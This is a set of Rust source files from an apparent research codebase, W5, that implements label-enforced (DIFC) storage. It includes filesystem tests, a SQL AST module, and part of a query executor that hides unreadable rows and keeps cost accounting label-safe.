        let alice = Subject::new(LabelPair::public(), reg.effective(&owner_caps));
        let fs = LabeledFs::new();
        let secret = LabelPair::new(Label::singleton(r), Label::empty());
        fs.create(&alice, "/diary/alice.txt", secret, Bytes::from_static(b"dear diary"))
            .unwrap();

        let stranger = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
        // Read-protected file: the stranger cannot even raise to read it, so
        // it must appear not to exist.
        assert_eq!(fs.read(&stranger, "/diary/alice.txt"), Err(FsError::NotFound));
        assert_eq!(fs.stat(&stranger, "/diary/alice.txt"), Err(FsError::NotFound));
        assert!(fs.list(&stranger, "/diary").unwrap().is_empty());
        assert_eq!(fs.list(&alice, "/diary").unwrap().len(), 1);
    }

    #[test]
    fn listing_is_nonrecursive_and_filtered() {
        let w = world();
        w.fs.create(&w.bob, "/a/one.txt", w.bob_data.clone(), Bytes::from_static(b"1")).unwrap();
        w.fs.create(&w.bob, "/a/b/two.txt", w.bob_data.clone(), Bytes::from_static(b"2")).unwrap();
        w.fs.create(&w.bob, "/c/three.txt", w.bob_data.clone(), Bytes::from_static(b"3")).unwrap();
        let l = w.fs.list(&w.bob, "/a").unwrap();
        assert_eq!(l.len(), 1);
        assert_eq!(l[0].path, "/a/one.txt");
        let lr = w.fs.list_recursive(&w.bob, "/a").unwrap();
        assert_eq!(lr.len(), 2);
        let root = w.fs.list_recursive(&w.bob, "/").unwrap();
        assert_eq!(root.len(), 3);
    }

    #[test]
    fn bad_paths_rejected() {
        let w = world();
        for p in ["relative", "/trailing/", "//double", "/dot/./x", "/dotdot/../x", "/nul\0"] {
            assert_eq!(
                w.fs.create(&w.bob, p, LabelPair::public(), Bytes::new()),
                Err(FsError::BadPath),
                "path {p:?}"
            );
        }
    }

    #[test]
    fn duplicate_create_rejected() {
        let w = world();
        w.fs.create(&w.bob, "/x", w.bob_data.clone(), Bytes::new()).unwrap();
        assert_eq!(
            w.fs.create(&w.bob, "/x", w.bob_data.clone(), Bytes::new()),
            Err(FsError::AlreadyExists)
        );
    }

    #[test]
    fn capacity_enforced() {
        let w = world();
        let fs = LabeledFs::with_capacity(10);
        fs.create(&w.bob, "/a", w.bob_data.clone(), Bytes::from(vec![0; 8])).unwrap();
        assert_eq!(
            fs.create(&w.bob, "/b", w.bob_data.clone(), Bytes::from(vec![0; 3])),
            Err(FsError::QuotaExceeded)
        );
        // Overwrite within capacity is fine (delta accounting).
        assert!(fs.write(&w.bob, "/a", Bytes::from(vec![0; 10])).is_ok());
        assert_eq!(
            fs.write(&w.bob, "/a", Bytes::from(vec![0; 11])),
            Err(FsError::QuotaExceeded)
        );
    }
}
