//! # w5-store — labeled storage for W5
//!
//! Two storage substrates, both enforcing DIFC on every access:
//!
//! * [`fs`] — a labeled filesystem. Every file carries a
//!   [`w5_difc::LabelPair`]; reads return the labels so the caller (the
//!   platform API) can taint the reading process, writes are checked
//!   against the subject's labels and capabilities.
//! * [`sql`] — a small SQL engine (`CREATE TABLE` / `INSERT` / `SELECT` /
//!   `UPDATE` / `DELETE`, `WHERE`, `ORDER BY`, `LIMIT`, aggregates) with a
//!   label on every row. The paper (§3.5) points out that a shared SQL
//!   interface "can leak information implicitly and thus needs to be
//!   replaced under W5": this engine is that replacement. In
//!   [`sql::QueryMode::Filtered`] mode, rows the subject may not read are
//!   *silently absent* — queries, counts and errors behave identically
//!   whether secret rows exist or not. [`sql::QueryMode::Naive`] keeps the
//!   leaky behaviour (visible counts and row-lock errors over all rows) so
//!   the covert-channel experiment (E9) can measure the difference.
//!
//! Access control is expressed through a [`Subject`]: the labels and
//! effective capabilities of the acting process, constructed by the
//! platform from kernel state. The store itself never consults ambient
//! authority.

#![forbid(unsafe_code)]

pub mod fs;
pub mod sql;
pub mod subject;

pub use fs::{FileMeta, FsError, LabeledFs};
pub use sql::{
    Database, Executor, PartitionedExec, QueryCost, QueryError, QueryMode, QueryOutput,
    ReferenceExec, Row, SqlError, Value,
};
pub use subject::{FlowMemo, Subject};
