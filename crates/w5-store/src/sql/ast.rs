//! Abstract syntax for the SQL subset.

use super::value::{ColumnType, Value};

/// A parsed statement.
#[derive(Clone, Debug, PartialEq)]
pub enum Statement {
    /// `CREATE TABLE name (col type, …)`
    CreateTable {
        name: String,
        columns: Vec<(String, ColumnType)>,
    },
    /// `DROP TABLE name`
    DropTable { name: String },
    /// `CREATE INDEX [name] ON table (column)` — a secondary
    /// equality/range index. The optional index name is accepted for
    /// familiarity and discarded: indexes are addressed by (table, column).
    CreateIndex { table: String, column: String },
    /// `INSERT INTO name [(cols)] VALUES (…), (…)`
    Insert {
        table: String,
        columns: Option<Vec<String>>,
        rows: Vec<Vec<Expr>>,
    },
    /// `SELECT items FROM table [JOIN t2 ON a.x = b.y] [WHERE …]
    /// [ORDER BY col [ASC|DESC]] [LIMIT n]`
    Select {
        items: Vec<SelectItem>,
        table: String,
        join: Option<Join>,
        filter: Option<Expr>,
        order_by: Option<(String, bool)>, // (column, ascending)
        limit: Option<usize>,
    },
    /// `UPDATE table SET col = expr, … [WHERE …]`
    Update {
        table: String,
        sets: Vec<(String, Expr)>,
        filter: Option<Expr>,
    },
    /// `DELETE FROM table [WHERE …]`
    Delete { table: String, filter: Option<Expr> },
}

/// An inner equi-join clause: `JOIN table ON left = right`, where `left`
/// and `right` are qualified column references (`table.column`).
#[derive(Clone, Debug, PartialEq)]
pub struct Join {
    /// The joined table.
    pub table: String,
    /// Qualified column from the left (FROM) table.
    pub left: String,
    /// Qualified column from the joined table.
    pub right: String,
}

/// One item in a SELECT list.
#[derive(Clone, Debug, PartialEq)]
pub enum SelectItem {
    /// `*`
    Wildcard,
    /// A plain expression (usually a column reference).
    Expr(Expr),
    /// `COUNT(*)`
    CountStar,
    /// `COUNT(col)` — non-NULL count.
    Count(String),
    /// `SUM(col)`
    Sum(String),
    /// `MIN(col)`
    Min(String),
    /// `MAX(col)`
    Max(String),
}

impl SelectItem {
    /// Is this an aggregate? (Aggregates cannot mix with plain items here.)
    pub fn is_aggregate(&self) -> bool {
        !matches!(self, SelectItem::Wildcard | SelectItem::Expr(_))
    }

    /// Column header for result tables.
    pub fn header(&self) -> String {
        match self {
            SelectItem::Wildcard => "*".to_string(),
            SelectItem::Expr(Expr::Column(c)) => c.clone(),
            SelectItem::Expr(_) => "expr".to_string(),
            SelectItem::CountStar => "COUNT(*)".to_string(),
            SelectItem::Count(c) => format!("COUNT({c})"),
            SelectItem::Sum(c) => format!("SUM({c})"),
            SelectItem::Min(c) => format!("MIN({c})"),
            SelectItem::Max(c) => format!("MAX({c})"),
        }
    }
}

/// Binary operators.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum BinOp {
    Eq,
    NotEq,
    Lt,
    LtEq,
    Gt,
    GtEq,
    And,
    Or,
    Add,
    Sub,
    Mul,
    Div,
    Mod,
    Like,
}

/// Expressions.
#[derive(Clone, Debug, PartialEq)]
pub enum Expr {
    /// A literal value.
    Literal(Value),
    /// A column reference.
    Column(String),
    /// Binary operation.
    Binary {
        op: BinOp,
        left: Box<Expr>,
        right: Box<Expr>,
    },
    /// Logical negation.
    Not(Box<Expr>),
    /// Arithmetic negation.
    Neg(Box<Expr>),
    /// `col IS NULL` / `col IS NOT NULL`.
    IsNull { expr: Box<Expr>, negated: bool },
}

impl Expr {
    /// All column names referenced by the expression (for validation).
    pub fn columns(&self, out: &mut Vec<String>) {
        match self {
            Expr::Literal(_) => {}
            Expr::Column(c) => out.push(c.clone()),
            Expr::Binary { left, right, .. } => {
                left.columns(out);
                right.columns(out);
            }
            Expr::Not(e) | Expr::Neg(e) => e.columns(out),
            Expr::IsNull { expr, .. } => expr.columns(out),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn aggregate_detection() {
        assert!(SelectItem::CountStar.is_aggregate());
        assert!(SelectItem::Sum("x".into()).is_aggregate());
        assert!(!SelectItem::Wildcard.is_aggregate());
        assert!(!SelectItem::Expr(Expr::Column("x".into())).is_aggregate());
    }

    #[test]
    fn headers() {
        assert_eq!(SelectItem::Count("a".into()).header(), "COUNT(a)");
        assert_eq!(SelectItem::Expr(Expr::Column("nm".into())).header(), "nm");
    }

    #[test]
    fn column_collection() {
        let e = Expr::Binary {
            op: BinOp::And,
            left: Box::new(Expr::Column("a".into())),
            right: Box::new(Expr::Not(Box::new(Expr::Column("b".into())))),
        };
        let mut cols = Vec::new();
        e.columns(&mut cols);
        assert_eq!(cols, vec!["a".to_string(), "b".to_string()]);
    }
}
