//! Query execution over labeled rows.
//!
//! Execution is split between a shared statement pipeline (parse, validate,
//! stage, order, project) and an [`Executor`] that decides *which rows a
//! statement visits and what each visit costs*:
//!
//! * [`ReferenceExec`] — the seed engine's scan, kept verbatim: every row
//!   in insertion order, one memoized flow check per row, one budget unit
//!   per row. It exists as the differential baseline (`w5-sim`'s store
//!   oracle runs every workload against both executors) and as the
//!   yardstick for `bench_store_json`.
//! * [`PartitionedExec`] — the production engine. Rows live in label
//!   partitions (see [`storage`](super::storage)), so visibility is decided
//!   **once per partition**; unreadable partitions are skipped wholesale
//!   for a flat one-unit charge, and WHERE clauses on indexed columns are
//!   served from sorted runs via [`plan`](super::plan) pushdown, visiting
//!   (and charging) only candidate rows.
//!
//! ## Label-safe cost accounting
//!
//! `QueryOutput::scanned` is part of the observable surface (the platform
//! charges CPU by it), so it must not leak hidden state. Under
//! [`PartitionedExec`] a skipped unreadable partition costs exactly **one
//! unit regardless of its row count**: what a subject can observe through
//! `scanned` or a `BudgetExhausted` verdict depends only on rows it may
//! read plus the number of distinct hidden label pairs — never on how many
//! rows hide behind them. (`tests/noninterference.rs` proves this by
//! differencing two worlds whose hidden partitions differ only in size.)
//! Index-pruned rows are never visited and never charged.

use super::ast::{BinOp, Expr, SelectItem, Statement};
use super::lexer::SqlError;
use super::parser::parse;
use super::plan;
use super::storage::{col_index, RowLoc, StoredRow, Table};
use super::value::{like_match, ColumnType, Value};
use crate::subject::{FlowMemo, Subject};
use w5_sync::RwLock;
use std::collections::HashMap;
use std::fmt;
use std::sync::Arc;
use w5_difc::{LabelPair, PairId, PairIdMap};

/// How the engine treats rows the subject may not read. See the module docs.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum QueryMode {
    /// W5 semantics: unreadable rows are silently invisible.
    Filtered,
    /// Status-quo shared database: all rows visible to application SQL.
    Naive,
}

/// Per-query resource budget (§3.5: the database must survive malicious
/// queries). `max_rows_scanned` bounds the work one query may perform.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct QueryCost {
    /// Maximum number of row visits before the query is aborted.
    pub max_rows_scanned: u64,
}

impl QueryCost {
    /// Effectively unbounded (trusted callers / experiments).
    pub fn unlimited() -> QueryCost {
        QueryCost { max_rows_scanned: u64::MAX }
    }

    /// The platform default for untrusted application queries.
    pub fn sandbox_default() -> QueryCost {
        QueryCost { max_rows_scanned: 100_000 }
    }
}

/// Execution errors.
#[derive(Clone, Debug, PartialEq)]
pub enum QueryError {
    /// Parse-time error.
    Sql(SqlError),
    /// Unknown table.
    NoSuchTable(String),
    /// Unknown column.
    NoSuchColumn(String),
    /// A value did not fit its column type.
    TypeMismatch { column: String, expected: ColumnType },
    /// A write touched a row the subject may not write.
    WriteDenied,
    /// The query exceeded its row-scan budget.
    BudgetExhausted,
    /// Runtime evaluation error (e.g. division by zero).
    Eval(String),
    /// The table already exists.
    TableExists(String),
    /// The statement was aborted by an injected fault (`w5-chaos`) before
    /// it executed. No rows were read or written.
    Aborted,
}

impl fmt::Display for QueryError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            QueryError::Sql(e) => write!(f, "{e}"),
            QueryError::NoSuchTable(t) => write!(f, "no such table: {t}"),
            QueryError::NoSuchColumn(c) => write!(f, "no such column: {c}"),
            QueryError::TypeMismatch { column, expected } => {
                write!(f, "type mismatch for column {column}: expected {expected}")
            }
            QueryError::WriteDenied => write!(f, "write denied by label policy"),
            QueryError::BudgetExhausted => write!(f, "query exceeded its scan budget"),
            QueryError::Eval(m) => write!(f, "evaluation error: {m}"),
            QueryError::TableExists(t) => write!(f, "table already exists: {t}"),
            QueryError::Aborted => write!(f, "query aborted before execution"),
        }
    }
}

impl std::error::Error for QueryError {}

impl From<SqlError> for QueryError {
    fn from(e: SqlError) -> Self {
        QueryError::Sql(e)
    }
}

/// A materialized result row.
#[derive(Clone, Debug, PartialEq)]
pub struct Row {
    /// Cell values, in result-column order.
    pub values: Vec<Value>,
    /// The stored row's labels (for SELECT results).
    pub labels: LabelPair,
}

/// The result of executing a statement.
#[derive(Clone, Debug, PartialEq)]
pub struct QueryOutput {
    /// Result column headers (empty for DML).
    pub columns: Vec<String>,
    /// Result rows (empty for DML).
    pub rows: Vec<Row>,
    /// Combined labels of all data that contributed to the result. The
    /// caller must taint the reading process with these labels.
    pub labels: LabelPair,
    /// Rows inserted/updated/deleted by DML.
    pub affected: usize,
    /// Cost units consumed (see the module docs: per row visited, plus one
    /// per unreadable partition skipped under [`PartitionedExec`]).
    pub scanned: u64,
}

/// The rows a statement's scan matched, plus what the scan cost.
pub struct Scan {
    /// Matching row locations, in executor-dependent order. The pipeline
    /// re-sorts by insertion sequence before anything observable happens.
    pub locs: Vec<RowLoc>,
    /// Cost units consumed.
    pub scanned: u64,
}

/// A row-visiting strategy: everything between "a statement needs rows from
/// this table" and "these rows matched, at this cost". Implementations
/// must agree on *which* rows match (the differential oracle enforces it);
/// they are free to disagree on visiting order and on cost.
///
/// The trait is object-safe and the `Database` holds one behind an `Arc`,
/// so a process can run reference and partitioned stores side by side over
/// identical data — which is exactly what `w5-sim`'s store oracle does.
pub trait Executor: Send + Sync {
    /// A short stable name for benches, metrics and oracle reports.
    fn name(&self) -> &'static str;

    /// Visit `t`'s rows and return those that are visible under `mode`,
    /// satisfy `filter`, and (when `write` is set) are writable by the
    /// subject — a `WriteDenied` on any matching row aborts the scan.
    /// Budget is charged per the executor's cost model.
    fn scan(
        &self,
        t: &Table,
        memo: &mut FlowMemo<'_>,
        mode: QueryMode,
        cost: QueryCost,
        filter: Option<&Expr>,
        write: bool,
    ) -> Result<Scan, QueryError>;

    /// All rows visible under `mode`, in insertion order. Used as the join
    /// prefilter; charges nothing (joins budget the candidate *pair* count
    /// instead).
    fn visible(&self, t: &Table, memo: &mut FlowMemo<'_>, mode: QueryMode) -> Vec<RowLoc>;
}

/// The seed engine's scan, preserved verbatim: every row in insertion
/// order, one memoized per-row flow check, one budget unit per row visited.
#[derive(Clone, Copy, Debug, Default)]
pub struct ReferenceExec;

impl Executor for ReferenceExec {
    fn name(&self) -> &'static str {
        "reference"
    }

    fn scan(
        &self,
        t: &Table,
        memo: &mut FlowMemo<'_>,
        mode: QueryMode,
        cost: QueryCost,
        filter: Option<&Expr>,
        write: bool,
    ) -> Result<Scan, QueryError> {
        let mut order = all_locs(t);
        order.sort_unstable_by_key(|l| l.seq);
        let mut scanned = 0u64;
        let mut locs = Vec::new();
        for loc in order {
            scanned += 1;
            if scanned > cost.max_rows_scanned {
                return Err(QueryError::BudgetExhausted);
            }
            let part = &t.partitions[loc.part];
            if mode == QueryMode::Filtered && !memo.may_read(part.labels) {
                continue;
            }
            if let Some(f) = filter {
                if !eval(f, &t.columns, &part.rows[loc.row].values)?.is_truthy() {
                    continue;
                }
            }
            if write && !memo.may_write(part.labels) {
                return Err(QueryError::WriteDenied);
            }
            locs.push(loc);
        }
        Ok(Scan { locs, scanned })
    }

    fn visible(&self, t: &Table, memo: &mut FlowMemo<'_>, mode: QueryMode) -> Vec<RowLoc> {
        let mut order = all_locs(t);
        order.sort_unstable_by_key(|l| l.seq);
        order.retain(|l| {
            mode == QueryMode::Naive || memo.may_read(t.partitions[l.part].labels)
        });
        order
    }
}

/// The partitioned engine: per-partition visibility, one-unit skip charges,
/// and index-probe pushdown. See the module docs for the cost model.
#[derive(Clone, Copy, Debug, Default)]
pub struct PartitionedExec;

impl Executor for PartitionedExec {
    fn name(&self) -> &'static str {
        "partitioned"
    }

    fn scan(
        &self,
        t: &Table,
        memo: &mut FlowMemo<'_>,
        mode: QueryMode,
        cost: QueryCost,
        filter: Option<&Expr>,
        write: bool,
    ) -> Result<Scan, QueryError> {
        let push = filter.and_then(|f| plan::pushdown(t, f));
        let mut scanned = 0u64;
        let mut locs = Vec::new();
        let mut cands: Vec<u32> = Vec::new();
        for (pi, part) in t.partitions.iter().enumerate() {
            if part.rows.is_empty() {
                // Unreachable by invariant (empty partitions are dropped);
                // charging nothing keeps it harmless if that ever changes.
                continue;
            }
            if mode == QueryMode::Filtered && !memo.may_read(part.labels) {
                // The label-safe skip: one flat unit, whatever the size.
                scanned += 1;
                if scanned > cost.max_rows_scanned {
                    return Err(QueryError::BudgetExhausted);
                }
                continue;
            }
            let probed: Option<&[u32]> = match &push {
                None => None,
                Some(p) => {
                    cands.clear();
                    let slot = t.run_slot(p.col).expect("pushdown targets an indexed column");
                    let run = &part.runs[slot];
                    match &p.eq {
                        Some(v) => run.probe_eq(v, &mut cands),
                        None => run.probe_range(p.lo.as_ref(), p.hi.as_ref(), &mut cands),
                    }
                    // Visit candidates in row order so within-partition
                    // behaviour (and any eval-error surfacing) is stable.
                    cands.sort_unstable();
                    Some(&cands)
                }
            };
            let mut write_ok = false;
            let n = probed.map_or(part.rows.len(), <[u32]>::len);
            for k in 0..n {
                let ri = probed.map_or(k, |c| c[k] as usize);
                scanned += 1;
                if scanned > cost.max_rows_scanned {
                    return Err(QueryError::BudgetExhausted);
                }
                let row = &part.rows[ri];
                if let Some(f) = filter {
                    if !eval(f, &t.columns, &row.values)?.is_truthy() {
                        continue;
                    }
                }
                if write && !write_ok {
                    // One write check per partition with a matching row:
                    // labels are uniform, so the verdict is too.
                    if !memo.may_write(part.labels) {
                        return Err(QueryError::WriteDenied);
                    }
                    write_ok = true;
                }
                locs.push(RowLoc { part: pi, row: ri, seq: row.seq });
            }
        }
        Ok(Scan { locs, scanned })
    }

    fn visible(&self, t: &Table, memo: &mut FlowMemo<'_>, mode: QueryMode) -> Vec<RowLoc> {
        let mut locs = Vec::new();
        for (pi, part) in t.partitions.iter().enumerate() {
            if mode == QueryMode::Filtered && !memo.may_read(part.labels) {
                continue;
            }
            locs.extend(
                part.rows
                    .iter()
                    .enumerate()
                    .map(|(ri, r)| RowLoc { part: pi, row: ri, seq: r.seq }),
            );
        }
        locs.sort_unstable_by_key(|l| l.seq);
        locs
    }
}

fn all_locs(t: &Table) -> Vec<RowLoc> {
    let mut locs = Vec::with_capacity(t.row_count());
    for (pi, part) in t.partitions.iter().enumerate() {
        locs.extend(
            part.rows
                .iter()
                .enumerate()
                .map(|(ri, r)| RowLoc { part: pi, row: ri, seq: r.seq }),
        );
    }
    locs
}

/// A labeled database. Cheap to clone (shared state).
#[derive(Clone)]
pub struct Database {
    tables: Arc<RwLock<HashMap<String, Table>>>,
    exec: Arc<dyn Executor>,
}

impl Default for Database {
    fn default() -> Database {
        Database::new()
    }
}

impl Database {
    /// An empty database on the partitioned executor (production default).
    pub fn new() -> Database {
        Database::with_executor(Arc::new(PartitionedExec))
    }

    /// An empty database on the verbatim seed-era scan executor — the
    /// differential baseline.
    pub fn reference() -> Database {
        Database::with_executor(Arc::new(ReferenceExec))
    }

    /// An empty database on a caller-supplied executor.
    pub fn with_executor(exec: Arc<dyn Executor>) -> Database {
        Database { tables: Arc::new(RwLock::new("store.partition", HashMap::new())), exec }
    }

    /// The active executor's name (benches, oracle reports).
    pub fn executor_name(&self) -> &'static str {
        self.exec.name()
    }

    /// Parse and execute one statement.
    ///
    /// * `subject` — the acting process's labels/capabilities.
    /// * `mode` — row-visibility semantics (see [`QueryMode`]).
    /// * `cost` — scan budget.
    /// * `insert_labels` — labels stamped on rows created by INSERT; must be
    ///   writable by the subject.
    pub fn execute(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        insert_labels: &LabelPair,
        sql: &str,
    ) -> Result<QueryOutput, QueryError> {
        let stmt = parse(sql)?;
        self.execute_stmt(subject, mode, cost, insert_labels, stmt)
    }

    /// Execute a pre-parsed statement (the hot path for benchmarks).
    pub fn execute_stmt(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        insert_labels: &LabelPair,
        stmt: Statement,
    ) -> Result<QueryOutput, QueryError> {
        // Statements execute all-or-nothing: an injected abort fires before
        // any row is visited, so there is never a half-applied write.
        if w5_chaos::inject(w5_chaos::Site::SqlQuery).is_some() {
            return Err(QueryError::Aborted);
        }
        // Per-row flow verdicts are ledgered while the table lock is held;
        // intentional (the verdict must describe the partition it filtered,
        // and the scan cannot release the lock row by row).
        let _obs_permit = w5_sync::lockdep::allow_held("obs.ledger");
        match stmt {
            Statement::CreateTable { name, columns } => self.create_table(&name, columns),
            Statement::DropTable { name } => self.drop_table(subject, &name),
            Statement::CreateIndex { table, column } => {
                self.create_index(&table, &column)?;
                Ok(empty_output())
            }
            Statement::Insert { table, columns, rows } => {
                self.insert(subject, insert_labels, &table, columns, rows)
            }
            Statement::Select { items, table, join, filter, order_by, limit } => {
                self.select(subject, mode, cost, &table, join, items, filter, order_by, limit)
            }
            Statement::Update { table, sets, filter } => {
                self.update(subject, mode, cost, &table, sets, filter)
            }
            Statement::Delete { table, filter } => {
                self.delete(subject, mode, cost, &table, filter)
            }
        }
    }

    /// Names of all tables (schema metadata is public).
    pub fn table_names(&self) -> Vec<String> {
        let mut v: Vec<String> = self.tables.read().keys().cloned().collect();
        v.sort();
        v
    }

    /// Total stored rows across tables (trusted accounting).
    pub fn total_rows(&self) -> usize {
        self.tables.read().values().map(Table::row_count).sum()
    }

    /// Create a secondary equality/range index on `table.column`.
    /// Idempotent. Indexes are schema metadata: like table and column
    /// names they are public, and building one never widens visibility —
    /// runs only ever prune the rows a query *visits*, inside partitions
    /// the subject already passed the flow check for.
    pub fn create_index(&self, table: &str, column: &str) -> Result<(), QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        let ci = t.col_index(column)?;
        t.add_index(ci);
        Ok(())
    }

    /// Per-table census of row labels: for each table, the distinct label
    /// pairs stamped on its rows with their row counts, sorted
    /// deterministically. Trusted accounting for configuration audits
    /// (`w5-analyze`) — this reveals *which* labels exist, never row
    /// contents, and is only reachable from platform-trusted code.
    pub fn label_census(&self) -> Vec<(String, Vec<(LabelPair, usize)>)> {
        let tables = self.tables.read();
        let mut out: Vec<(String, Vec<(LabelPair, usize)>)> = tables
            .iter()
            .map(|(name, t)| {
                let mut entries: Vec<(LabelPair, usize)> = t
                    .partitions
                    .iter()
                    .map(|p| (p.labels.resolve(), p.rows.len()))
                    .collect();
                entries.sort_by(|a, b| {
                    (a.0.secrecy.as_slice(), a.0.integrity.as_slice())
                        .cmp(&(b.0.secrecy.as_slice(), b.0.integrity.as_slice()))
                });
                (name.clone(), entries)
            })
            .collect();
        out.sort_by(|a, b| a.0.cmp(&b.0));
        out
    }

    fn create_table(
        &self,
        name: &str,
        columns: Vec<(String, ColumnType)>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        if tables.contains_key(name) {
            return Err(QueryError::TableExists(name.to_string()));
        }
        tables.insert(name.to_string(), Table::new(columns));
        Ok(empty_output())
    }

    fn drop_table(&self, subject: &Subject, name: &str) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get(name)
            .ok_or_else(|| QueryError::NoSuchTable(name.to_string()))?;
        // Dropping destroys every row, so it is a write to each of them.
        // The check is uniform over all partitions (visible or not) to
        // avoid turning DROP into an existence oracle; labels are uniform
        // within a partition, so per-partition is verdict-equivalent to
        // the seed engine's per-row pass.
        let mut memo = subject.memo();
        if !t.partitions.iter().all(|p| memo.may_write(p.labels)) {
            return Err(QueryError::WriteDenied);
        }
        tables.remove(name);
        Ok(empty_output())
    }

    fn insert(
        &self,
        subject: &Subject,
        insert_labels: &LabelPair,
        table: &str,
        columns: Option<Vec<String>>,
        rows: Vec<Vec<Expr>>,
    ) -> Result<QueryOutput, QueryError> {
        if !subject.may_write(insert_labels) {
            return Err(QueryError::WriteDenied);
        }
        // Intern once; every inserted row stamps the same `Copy` id
        // instead of cloning the label pair.
        let insert_id = insert_labels.interned();
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        // Resolve the column order once.
        let idxs: Vec<usize> = match &columns {
            Some(cols) => cols
                .iter()
                .map(|c| t.col_index(c))
                .collect::<Result<_, _>>()?,
            None => (0..t.columns.len()).collect(),
        };
        let mut staged = Vec::with_capacity(rows.len());
        for exprs in &rows {
            if exprs.len() != idxs.len() {
                return Err(QueryError::Eval(format!(
                    "expected {} values, got {}",
                    idxs.len(),
                    exprs.len()
                )));
            }
            let mut values = vec![Value::Null; t.columns.len()];
            for (expr, &ix) in exprs.iter().zip(&idxs) {
                let v = eval_const(expr)?;
                let (ref cname, cty) = t.columns[ix];
                if !v.fits(cty) {
                    return Err(QueryError::TypeMismatch { column: cname.clone(), expected: cty });
                }
                values[ix] = v;
            }
            staged.push(values);
        }
        // All rows validated: apply atomically.
        let n = staged.len();
        for values in staged {
            t.insert_row(insert_id, values);
        }
        Ok(QueryOutput { affected: n, ..empty_output() })
    }

    #[allow(clippy::too_many_arguments)]
    fn select(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        join: Option<crate::sql::ast::Join>,
        items: Vec<SelectItem>,
        filter: Option<Expr>,
        order_by: Option<(String, bool)>,
        limit: Option<usize>,
    ) -> Result<QueryOutput, QueryError> {
        let tables = self.tables.read();
        let t = tables
            .get(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;

        // With a JOIN, materialize the (visibility-filtered) combined
        // relation first; the rest of the pipeline is shared.
        let joined: Option<Table> = match &join {
            None => None,
            Some(j) => {
                let t2 = tables
                    .get(&j.table)
                    .ok_or_else(|| QueryError::NoSuchTable(j.table.clone()))?;
                Some(join_tables(
                    self.exec.as_ref(),
                    subject,
                    mode,
                    cost,
                    table,
                    t,
                    &j.table,
                    t2,
                    &j.left,
                    &j.right,
                )?)
            }
        };
        let t = joined.as_ref().unwrap_or(t);

        validate_columns(&t.columns, filter.as_ref())?;

        let mut memo = subject.memo();
        let Scan { mut locs, scanned } =
            self.exec.scan(t, &mut memo, mode, cost, filter.as_ref(), false)?;
        // Back to insertion order: the executors may visit partition-major.
        locs.sort_unstable_by_key(|l| l.seq);
        let mut hits: Vec<(&StoredRow, PairId)> = locs
            .iter()
            .map(|l| (&t.partitions[l.part].rows[l.row], t.partitions[l.part].labels))
            .collect();

        if let Some((col, asc)) = &order_by {
            let ix = t.col_index(col)?;
            hits.sort_by(|a, b| {
                let ord = a.0.values[ix].order(&b.0.values[ix]);
                if *asc {
                    ord
                } else {
                    ord.reverse()
                }
            });
        }
        if let Some(n) = limit {
            hits.truncate(n);
        }

        // Combined labels over contributing rows: an id-level fold whose
        // self-combine fast path makes the homogeneous-label scan free.
        let label_id = combine_labels(hits.iter().map(|&(_, id)| id));
        let labels = label_id.resolve();

        let is_agg = items.iter().any(SelectItem::is_aggregate);
        if is_agg {
            let mut values = Vec::with_capacity(items.len());
            let mut headers = Vec::with_capacity(items.len());
            for item in &items {
                headers.push(item.header());
                values.push(aggregate(item, &t.columns, &hits)?);
            }
            return Ok(QueryOutput {
                columns: headers,
                rows: vec![Row { values, labels: labels.clone() }],
                labels,
                affected: 0,
                scanned,
            });
        }

        // Plain projection.
        let mut headers = Vec::new();
        let mut proj: Vec<Projection> = Vec::new();
        for item in &items {
            match item {
                SelectItem::Wildcard => {
                    for (i, (name, _)) in t.columns.iter().enumerate() {
                        headers.push(name.clone());
                        proj.push(Projection::Col(i));
                    }
                }
                SelectItem::Expr(Expr::Column(c)) => {
                    headers.push(c.clone());
                    proj.push(Projection::Col(t.col_index(c)?));
                }
                SelectItem::Expr(e) => {
                    let mut cols = Vec::new();
                    e.columns(&mut cols);
                    for c in &cols {
                        t.col_index(c)?;
                    }
                    headers.push(item.header());
                    proj.push(Projection::Expr(e.clone()));
                }
                _ => unreachable!("aggregates handled above"),
            }
        }
        let mut rows = Vec::with_capacity(hits.len());
        let mut resolved: PairIdMap<LabelPair> = PairIdMap::default();
        for &(r, id) in &hits {
            let mut values = Vec::with_capacity(proj.len());
            for p in &proj {
                values.push(match p {
                    Projection::Col(i) => r.values[*i].clone(),
                    Projection::Expr(e) => eval(e, &t.columns, &r.values)?,
                });
            }
            let labels = resolved.entry(id).or_insert_with(|| id.resolve()).clone();
            rows.push(Row { values, labels });
        }
        Ok(QueryOutput { columns: headers, rows, labels, affected: 0, scanned })
    }

    fn update(
        &self,
        subject: &Subject,
        mode: QueryMode,
        cost: QueryCost,
        table: &str,
        sets: Vec<(String, Expr)>,
        filter: Option<Expr>,
    ) -> Result<QueryOutput, QueryError> {
        let mut tables = self.tables.write();
        let t = tables
            .get_mut(table)
            .ok_or_else(|| QueryError::NoSuchTable(table.to_string()))?;
        validate_columns(&t.columns, filter.as_ref())?;
        let set_idx: Vec<(usize, Expr)> = sets
            .into_iter()
            .map(|(c, e)| t.col_index(&c).map(|i| (i, e)))
            .collect::<Result<_, _>>()?;

        let mut memo = subject.memo();
        let Scan { mut locs, scanned } =
            self.exec.scan(t, &mut memo, mode, cost, filter.as_ref(), true)?;
        // Stage in insertion order so SET-expression evaluation (and any
        // error it surfaces) is executor-independent; apply only once every
        // row staged cleanly — a failure aborts the whole statement.
        locs.sort_unstable_by_key(|l| l.seq);
        let mut staged: Vec<(RowLoc, Vec<(usize, Value)>)> = Vec::with_capacity(locs.len());
